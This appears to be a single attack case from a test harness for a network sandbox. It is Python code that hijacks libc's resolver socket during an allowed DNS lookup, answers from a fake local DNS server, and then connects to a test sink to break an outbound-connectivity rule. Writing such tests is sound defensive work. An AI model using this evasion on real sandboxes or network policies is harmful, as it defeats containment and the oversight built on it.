# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread connects libc's socket to a server of
#   its own
# proof: sink
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import socket
import threading

from attack import SINK, answer_to, attempt, beside_lookups, is_asking


@attempt
def connect():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))

    def serve():
        while True:
            asked, peer = server.recvfrom(4096)
            server.sendto(answer_to(asked, SINK[0]), peer)

    threading.Thread(target=serve, daemon=True).start()

    def redial(fd):
        same = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=fd)
        try:
            same.connect(server.getsockname())
        finally:
            same.detach()
        return socket.socket().connect_ex(SINK) == 0

    return beside_lookups(is_asking, redial)
